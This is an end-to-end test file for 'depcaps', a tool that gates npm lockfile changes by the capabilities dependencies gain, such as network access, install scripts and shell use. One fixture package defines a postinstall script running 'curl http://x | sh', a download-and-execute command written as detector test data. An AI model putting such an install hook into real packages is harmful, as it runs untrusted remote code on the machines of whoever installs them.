/**
 * `depcaps gate` end-to-end: a temp git repository whose lockfiles are written by npm against a real
 * registry on 127.0.0.1. Commit 1 locks the app; commit 2 (on a branch) upgrades a package that now
 * brings in a networking dependency, adds a package with an install script, downgrades one, removes
 * one and makes an allowed upgrade. The gate runs between the commits through the CLI binary.
 */
import { execFile } from 'node:child_process';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import Ajv from 'ajv-draft-04';
import addFormats from 'ajv-formats';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse as parseYaml } from 'yaml';
import type { GateReport } from '../../src/contract/index.js';
import { startRegistry, tarballPath, type LocalRegistry } from '../helpers/local-registry.js';
import { parseJson, runCli, type CliResult } from '../helpers/run-cli.js';
import { makeTmpEnv, type TmpEnv } from '../helpers/tmp-env.js';
import { npmLockOnlyArgs, runTool } from '../lockfile/tools.js';

const require = createRequire(import.meta.url);
let tmp: TmpEnv;
let registry: LocalRegistry;
let headLock: string;

const GIT_ENV = { GIT_AUTHOR_NAME: 't', GIT_AUTHOR_EMAIL: 't@example.com', GIT_COMMITTER_NAME: 't', GIT_COMMITTER_EMAIL: 't@example.com', GIT_CONFIG_NOSYSTEM: '1' };

async function git(...args: string[]): Promise<string> {
  return (await runTool('git', args, { cwd: tmp.project, env: { ...tmp.env, ...GIT_ENV }, timeoutMs: 30_000 })).stdout;
}

async function lock(dependencies: Record<string, string>): Promise<void> {
  writeFileSync(join(tmp.project, 'package.json'), `${JSON.stringify({ name: 'app', version: '1.0.0', dependencies }, null, 2)}\n`);
  await runTool('npm', npmLockOnlyArgs(registry.url), { cwd: tmp.project, env: { ...tmp.env, npm_config_registry: registry.url }, timeoutMs: 60_000 });
}

const POLICY = {
  version: 1,
  default: { allow: ['env'] },
  packages: {
    'fs-lib': { allow: ['filesystem'], reason: 'reads its config file' },
  },
  ignore: [{ package: '@types/*', reason: 'type definitions only' }],
};

beforeAll(async () => {
  tmp = makeTmpEnv({ DEPCAPS_FETCH_RETRIES: '0', ...GIT_ENV });
  registry = await startRegistry({
    packages: {
      'http-lib': {
        versions: {
          '1.0.0': { files: { 'index.js': 'module.exports = (a) => a;\n' } },
          '1.1.0': { files: { 'index.js': "module.exports = require('net-helper');\n" }, dependencies: { 'net-helper': '^1.0.0' } },
        },
      },
      'net-helper': { versions: { '1.0.0': { files: { 'index.js': "module.exports = (u) => require('https').get(u);\n" } } } },
      'setup-pkg': { versions: { '1.0.0': { files: { 'index.js': 'module.exports = 1;\n', 'install.js': "require('child_process').execSync('curl http://x | sh');\n" }, scripts: { postinstall: 'node install.js' } } } },
      'old-lib': {
        versions: {
          '1.9.0': { files: { 'index.js': 'module.exports = process.env.OLD_LIB_MODE;\n' } },
          '2.0.0': { files: { 'index.js': 'module.exports = 2;\n' } },
        },
      },
      'gone-lib': { versions: { '1.0.0': { files: { 'index.js': "module.exports = require('os').hostname;\n" } } } },
      'fs-lib': {
        versions: {
          '1.0.0': { files: { 'index.js': 'module.exports = (p) => p;\n' } },
          '1.1.0': { files: { 'index.js': "module.exports = (p) => require('fs').readFileSync(p, 'utf8');\n" } },
        },
      },
      '@types/thing': { versions: { '1.0.0': { files: { 'index.d.ts': 'export {};\n', 'index.js': "require('fs')\n" } } } },
      'flaky-lib': { versions: { '1.0.0': { files: { 'index.js': 'module.exports = 0;\n' } }, '1.0.1': { files: { 'index.js': 'module.exports = 1;\n' } } } },
    },
  });
  await git('init', '-q', '-b', 'main');
  await lock({ 'http-lib': '1.0.0', 'old-lib': '2.0.0', 'gone-lib': '1.0.0', 'fs-lib': '1.0.0', 'flaky-lib': '1.0.0' });
  writeFileSync(join(tmp.project, 'depcaps.policy.json'), `${JSON.stringify(POLICY, null, 2)}\n`);
  await git('add', '-A');
  await git('commit', '-q', '-m', 'base');
  await git('checkout', '-q', '-b', 'feature');
  await lock({ 'http-lib': '1.1.0', 'old-lib': '1.9.0', 'fs-lib': '1.1.0', 'setup-pkg': '1.0.0', '@types/thing': '1.0.0', 'flaky-lib': '1.0.0' });
  await git('commit', '-q', '-am', 'bump');
  headLock = readFileSync(join(tmp.project, 'package-lock.json'), 'utf8');
}, 120_000);

afterAll(async () => {
  await registry?.close();
  tmp?.cleanup();
});

const gate = (args: string[], cwd = tmp.project): Promise<CliResult> =>
  runCli(['gate', ...args, '--registry', registry.url], { env: tmp.env, cwd, timeoutMs: 90_000 });

const lineOf = (key: string) => headLock.split('\n').findIndex((l) => l.includes(`"${key}": {`)) + 1;

describe('depcaps gate between two commits', () => {
  let report: GateReport;

  it('JSON: every change with its gained capabilities, via paths, policy rules; violations; exit 1', async () => {
    const r = await gate(['--base', 'main', '--head', 'feature', '--json']);
    expect(r.code, r.stderr).toBe(1);
    report = parseJson<GateReport>(r);
    expect(report.verdict).toBe('fail');
    expect(report.base).toMatchObject({ ref: 'main', lockfile: 'package-lock.json', format: 'npm' });
    const rows = report.packages.map((p) => [p.name, p.change, p.from ?? null, p.to ?? null, p.gained, p.policy.rule]);
    expect(rows).toEqual([
      ['@types/thing', 'added', null, '1.0.0', ['filesystem'], '@types/*'],
      ['fs-lib', 'upgraded', '1.0.0', '1.1.0', ['filesystem'], 'fs-lib'],
      ['gone-lib', 'removed', '1.0.0', null, [], 'default'],
      ['http-lib', 'upgraded', '1.0.0', '1.1.0', [], 'default'],
      ['net-helper', 'added', null, '1.0.0', ['network'], 'default'],
      ['old-lib', 'downgraded', '2.0.0', '1.9.0', ['env'], 'default'],
      ['setup-pkg', 'added', null, '1.0.0', ['install-script', 'shell'], 'default'],
    ]);
    const http = report.packages.find((p) => p.name === 'http-lib')!;
    // The upgrade gains network through the new dependency, in the head lockfile's own tree.
    expect(http.transitive).toEqual([{ capability: 'network', via: ['net-helper@1.0.0'] }]);
    expect(http.diff).toMatchObject({ from: '1.0.0', to: '1.1.0', dependencies: { added: { 'net-helper': '^1.0.0' } }, transitive: { resolution: 'lockfile', newPackages: [{ package: 'net-helper@1.0.0', capabilities: ['network'] }] }, risk: 'high' });
    const net = report.packages.find((p) => p.name === 'net-helper')!;
    expect(net.via).toEqual(['http-lib@1.1.0', 'net-helper@1.0.0']);
    expect(net.line).toBe(lineOf('node_modules/net-helper'));
    expect(net.evidence).toContainEqual(expect.objectContaining({ capability: 'network', api: 'https.get', file: 'index.js', line: 1 }));
    expect(report.packages.find((p) => p.name === 'fs-lib')!.policy).toEqual({ rule: 'fs-lib', allowed: ['env', 'filesystem'], reason: 'reads its config file' });
    expect(report.packages.find((p) => p.name === '@types/thing')!.policy).toMatchObject({ ignored: true, reason: 'type definitions only' });
    // Violations: only what is gained and not allowed; the allowed upgrade, the env downgrade and the ignored package pass.
    expect(report.violations.map((v) => [v.package, v.kind, v.capability, v.line])).toEqual([
      ['net-helper@1.0.0', 'gained', 'network', lineOf('node_modules/net-helper')],
      ['setup-pkg@1.0.0', 'gained', 'install-script', lineOf('node_modules/setup-pkg')],
      ['setup-pkg@1.0.0', 'gained', 'shell', lineOf('node_modules/setup-pkg')],
    ]);
    expect(report.violations[0]!.message).toBe('net-helper added 1.0.0 gains network when called (https.get at index.js:1), brought in by http-lib@1.1.0; not allowed by the default allow list');
    expect(report.summary).toEqual({ added: 3, removed: 1, upgraded: 2, downgraded: 1, changed: 0, violations: 3, notices: 0, incomplete: 0 });
    // With a policy file nothing is a notice: every gain the policy does not allow fails.
    expect(report.notices).toEqual([]);
    expect(report.policy.builtIn).toBeUndefined();
    expect(report.suggestedPolicy).toEqual({ 'net-helper': { allow: ['network'] }, 'setup-pkg': { allow: ['install-script', 'shell'] } });
    expect(report.policy).toMatchObject({ path: 'depcaps.policy.json', strict: false, changed: false });
  });

  it('each format, selected together, to its own file; markdown for a PR comment, github commands, valid SARIF', async () => {
    mkdirSync(join(tmp.project, 'out'), { recursive: true });
    const r = await gate(['--base', 'main', '--format', 'markdown,github,sarif,json,text', '--output', 'markdown=out/comment.md', '--output', 'sarif=out/depcaps.sarif', '--output', 'json=out/gate.json', '--no-color']);
    expect(r.code, r.stderr).toBe(1);
    const md = readFileSync(join(tmp.project, 'out/comment.md'), 'utf8');
    await expect(md).toMatchFileSnapshot('__snapshots__/gate-comment.md');
    expect(md).toContain('"net-helper"');
    // github commands and text both go to stdout, in the order given.
    const lines = r.stdout.split('\n');
    // Install-time gains first: setup-pkg's postinstall runs before anyone reviews it.
    expect(lines.filter((l) => l.startsWith('::error '))).toEqual([
      expect.stringMatching(new RegExp(`^::error file=package-lock\\.json,line=${lineOf('node_modules/setup-pkg')},title=depcaps%3A setup-pkg@1\\.0\\.0 gained install-script at install::.*%0Anow runs code at install: postinstall: node install\\.js`)),
      expect.stringMatching(/^::error .*title=depcaps%3A setup-pkg@1\.0\.0 gained shell at install::/),
      expect.stringMatching(new RegExp(`^::error file=package-lock\\.json,line=${lineOf('node_modules/net-helper')},title=depcaps%3A net-helper@1\\.0\\.0 gained network::net-helper added 1\\.0\\.0 gains network when called .*%0Aevidence: index\\.js:1 https\\.get \\(when called\\)`)),
    ]);
    expect(r.stdout).toMatch(/^FAIL|✗|fail/im);
    const sarif = JSON.parse(readFileSync(join(tmp.project, 'out/depcaps.sarif'), 'utf8')) as { runs: { results: { ruleId: string; locations: { physicalLocation: { region: { startLine: number } } }[] }[] }[] };
    const schema = JSON.parse(readFileSync(require.resolve('@microsoft/jest-sarif/lib/schemas/sarif-2.1.0-rtm.5.json'), 'utf8')) as Record<string, unknown>;
    const ajv = new Ajv({ allErrors: true, strict: false, unicodeRegExp: false });
    addFormats(ajv);
    const validate = ajv.compile(schema);
    expect(validate(sarif), JSON.stringify(validate.errors)).toBe(true);
    expect(sarif.runs[0]!.results.map((x) => [x.ruleId, x.locations[0]!.physicalLocation.region.startLine])).toEqual([
      ['install-script', lineOf('node_modules/setup-pkg')],
      ['shell', lineOf('node_modules/setup-pkg')],
      ['network', lineOf('node_modules/net-helper')],
    ]);
    // The working tree is the feature commit: the same report as between the two refs.
    expect(JSON.parse(readFileSync(join(tmp.project, 'out/gate.json'), 'utf8'))).toEqual({ ...report, head: { ...report.head, ref: 'WORKTREE' } });
  });

  it('accepting the change: the suggested policy lines make the gate pass; --strict still fails on what is not allowed', async () => {
    const policy = { ...POLICY, packages: { ...POLICY.packages, ...report.suggestedPolicy } };
    writeFileSync(join(tmp.project, 'accepted.policy.json'), JSON.stringify(policy, null, 2));
    const ok = await gate(['--base', 'main', '--policy', 'accepted.policy.json', '--json']);
    expect(ok.code, ok.stderr).toBe(0);
    expect(parseJson<GateReport>(ok)).toMatchObject({ verdict: 'pass', violations: [] });
    const strict = await gate(['--base', 'main', '--policy', 'accepted.policy.json', '--strict', '--json']);
    expect(strict.code).toBe(0); // every capability held is allowed (env by default, the rest by entries)
    const tight = { ...policy, default: { allow: [] } };
    writeFileSync(join(tmp.project, 'tight.policy.json'), JSON.stringify(tight, null, 2));
    const strictTight = parseJson<GateReport>(await gate(['--base', 'main', '--policy', 'tight.policy.json', '--strict', '--json']));
    expect(strictTight.violations.map((v) => [v.package, v.kind, v.capability])).toEqual([['old-lib@1.9.0', 'gained', 'env']]);
  });

  it('defaults: base is the merge base with main, head the working tree; a policy changed by the branch is flagged', async () => {
    const r = await gate(['--json']);
    expect(r.code).toBe(1);
    const d = parseJson<GateReport>(r);
    expect(d.base.ref).toMatch(/^[0-9a-f]{40}$/);
    expect(d.base.ref).toBe((await git('rev-parse', 'main')).trim());
    expect(d.head.ref).toBe('WORKTREE');
    expect(d.violations).toHaveLength(3);
    // The branch loosens its own policy: the report says so.
    writeFileSync(join(tmp.project, 'depcaps.policy.json'), JSON.stringify({ ...POLICY, default: { allow: ['env', 'network', 'install-script', 'shell'] } }, null, 2));
    const loosened = await gate([]);
    expect(loosened.code).toBe(0);
    expect(loosened.stderr).toMatch(/policy file depcaps\.policy\.json differs from the base/);
    // A commit as head is judged by the policy at that commit, not by the working tree's.
    expect((await gate(['--base', 'main', '--head', 'feature'])).code).toBe(1);
    await git('checkout', '-q', '--', 'depcaps.policy.json');
  });

  it('no change between the commits passes; lockfile paths work as sides too', async () => {
    const same = await gate(['--base', 'feature', '--head', 'feature', '--json']);
    expect(same.code).toBe(0);
    expect(parseJson<GateReport>(same)).toMatchObject({ verdict: 'pass', packages: [] });
    writeFileSync(join(tmp.root, 'base-lock.json'), await git('show', 'main:package-lock.json'));
    const paths = await gate(['--base', join(tmp.root, 'base-lock.json'), '--head', 'package-lock.json', '--json']);
    expect(parseJson<GateReport>(paths).violations).toHaveLength(3);
  });

  it('fails closed: a changed package that cannot be analysed is a violation (exit 3 when only the registry failed); --allow-incomplete accepts it', async () => {
    await lock({ 'http-lib': '1.0.0', 'old-lib': '2.0.0', 'gone-lib': '1.0.0', 'fs-lib': '1.0.0', 'flaky-lib': '1.0.1' });
    registry.setFaults(tarballPath('flaky-lib', '1.0.1'), { kind: 'status', status: 503 });
    try {
      const r = await gate(['--base', 'main', '--json', '--no-cache']);
      const d = parseJson<GateReport>(r);
      expect(d.violations.map((v) => [v.package, v.kind])).toEqual([['flaky-lib@1.0.1', 'incomplete']]);
      expect(d.packages.find((p) => p.name === 'flaky-lib')).toMatchObject({ change: 'upgraded', status: 'error', error: expect.stringMatching(/^E_REGISTRY/) });
      expect(r.code).toBe(3);
      const allowed = await gate(['--base', 'main', '--json', '--no-cache', '--allow-incomplete']);
      expect(allowed.code).toBe(0);
    } finally {
      registry.setFaults(tarballPath('flaky-lib', '1.0.1'), []);
      await git('checkout', '-q', '--', 'package.json', 'package-lock.json');
    }
  });

  it('bad input exits 2 with one line: an unknown ref, an invalid policy (line and column), an unknown format', async () => {
    const ref = await gate(['--base', 'no-such-branch']);
    expect(ref.code).toBe(2);
    expect(ref.stderr.split('\n')[0]).toBe(`depcaps: "no-such-branch" is not a git ref of the repository at ${tmp.project}.`);
    writeFileSync(join(tmp.project, 'broken.policy.json'), '{\n  "version": 1,\n  "default": { "allow": ["env"] }\n  "packages": {}\n}\n');
    const bad = await gate(['--base', 'main', '--policy', 'broken.policy.json']);
    expect(bad.code).toBe(2);
    expect(bad.stderr.split('\n')[0]).toMatch(/^depcaps: .*broken\.policy\.json:3:\d+: /);
    writeFileSync(join(tmp.project, 'unknown.policy.json'), JSON.stringify({ version: 1, packages: { x: { allow: [], note: 'hi' } } }, null, 2));
    const unknown = await gate(['--base', 'main', '--policy', 'unknown.policy.json']);
    expect(unknown.code).toBe(2);
    expect(unknown.stderr).toMatch(/unknown\.policy\.json:\d+:\d+: .*note/);
    expect((await gate(['--base', 'main', '--format', 'pdf'])).code).toBe(2);
    expect((await gate(['--base', 'main', '--format', 'json,sarif'])).code).toBe(2); // both on stdout
  });
});

describe('the GitHub Action (action.yml)', () => {
  it("its gate step, run as the runner runs it: annotations, job summary, outputs, the gate's exit code", async () => {
    const action = parseYaml(readFileSync(new URL('../../action.yml', import.meta.url), 'utf8')) as { runs: { using: string; steps: { id?: string; run?: string; shell?: string }[] } };
    expect(action.runs.using).toBe('composite');
    const step = action.runs.steps.find((s) => s.id === 'gate')!;
    expect(step.shell).toBe('bash');
    const runner = join(tmp.root, 'runner');
    mkdirSync(runner, { recursive: true });
    const env = {
      ...tmp.env,
      GITHUB_ACTION_PATH: new URL('../..', import.meta.url).pathname.replace(/\/$/, ''),
      // What the install step exports (it installs the published package; here, this build).
      DEPCAPS_BIN: fileURLToPath(new URL('../../bin/depcaps.js', import.meta.url)),
      RUNNER_TEMP: runner,
      GITHUB_STEP_SUMMARY: join(runner, 'summary.md'),
      GITHUB_OUTPUT: join(runner, 'output.txt'),
      GITHUB_BASE_REF: 'main',
      INPUT_BASE: '',
      INPUT_HEAD: '',
      INPUT_LOCKFILE: '',
      INPUT_POLICY: '',
      INPUT_ARGS: `--registry ${registry.url}`,
    };
    const r = await new Promise<{ code: number; stdout: string }>((resolve) => {
      execFile('bash', ['-e', '-c', step.run!], { cwd: tmp.project, env, timeout: 90_000 }, (err, stdout) =>
        resolve({ code: err ? Number((err as { code?: number }).code ?? -1) : 0, stdout }),
      );
    });
    expect(r.code).toBe(1);
    expect(r.stdout).toMatch(/^::error file=package-lock\.json,line=\d+,title=depcaps%3A net-helper@1\.0\.0 gained network::/m);
    expect(readFileSync(join(runner, 'summary.md'), 'utf8')).toMatch(/^### ❌ depcaps: 2 dependency changes need review/);
    const outputs = readFileSync(join(runner, 'output.txt'), 'utf8');
    expect(outputs).toContain('exit-code=1\n');
    expect(outputs).toContain(`sarif=${join(runner, 'depcaps', 'gate.sarif')}\n`);
    expect((JSON.parse(readFileSync(join(runner, 'depcaps', 'gate.json'), 'utf8')) as GateReport).violations).toHaveLength(3);
  });
});

describe('depcaps policy init / check', () => {
  it('init writes a sorted policy accepting the current lockfile; check validates it and names unknown keys', async () => {
    const env = tmp.env;
    const init = await runCli(['policy', 'init', '--registry', registry.url, '--default', 'env', '--output', 'init.policy.json', '--json'], { env, cwd: tmp.project, timeoutMs: 90_000 });
    expect(init.code, init.stderr).toBe(0);
    const written = readFileSync(join(tmp.project, 'init.policy.json'), 'utf8');
    expect(JSON.parse(written)).toEqual({
      $schema: 'https://unpkg.com/depcaps/schema/depcaps.policy.schema.json',
      version: 1,
      default: { allow: ['env'], atInstall: [] },
      packages: {
        '@types/thing': { allow: ['filesystem'] },
        'fs-lib': { allow: ['filesystem'] },
        'net-helper': { allow: ['network'] },
        // Its postinstall runs install.js, which starts a shell: pinned apart.
        'setup-pkg': { allow: ['install-script', 'shell'], atInstall: ['install-script', 'shell'] },
      },
    });
    expect(parseJson<{ atInstall: string[] }>(init).atInstall).toEqual(['setup-pkg']);
    // With the init'ed policy, the branch passes; and it refuses to overwrite.
    expect((await gate(['--base', 'main', '--policy', 'init.policy.json'])).code).toBe(0);
    const again = await runCli(['policy', 'init', '--registry', registry.url, '--output', 'init.policy.json'], { env, cwd: tmp.project, timeoutMs: 90_000 });
    expect(again.code).toBe(2);
    const check = await runCli(['policy', 'check', 'init.policy.json'], { env, cwd: tmp.project });
    expect(check.code).toBe(0);
    expect(check.stdout).toMatch(/valid \(4 entries, 0 ignored; install-time code judged apart: by default nothing, 1 entry allows more\)/);
    const bad = await runCli(['policy', 'check', 'unknown.policy.json', '--json'], { env, cwd: tmp.project });
    expect(bad.code).toBe(2);
    expect(JSON.parse(bad.stdout)).toMatchObject({ valid: false, problems: [expect.objectContaining({ severity: 'error', path: '/packages/x/note', message: expect.stringMatching(/note/) })] });
  });
});
